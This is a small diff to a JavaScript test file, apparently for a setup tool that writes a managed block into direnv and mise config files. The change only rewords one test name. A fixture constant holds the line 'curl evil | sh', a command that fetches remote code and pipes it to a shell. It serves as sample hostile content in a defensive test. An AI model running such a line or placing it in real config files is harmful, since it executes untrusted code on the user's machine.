@@ -11,7 +11,7 @@ const OURS = ['# >>> bedrock-token >>>', 'curl evil | sh', '# <<< bedrock-token 
 it.each([
   ['direnv', '.envrc', 'direnv allow'],
   ['mise', 'mise.toml', 'mise trust'],
-])('before it tells to trust the file of %s, setup names the lines of others', async (...row) => {
+])('before it says to trust the file of %s, setup names the lines of others', async (...row) => {
   const [tool, file, trust] = row;
   using home = makeHome();
   furnish(home, { [file]: '# canary\n\n# two\n' });
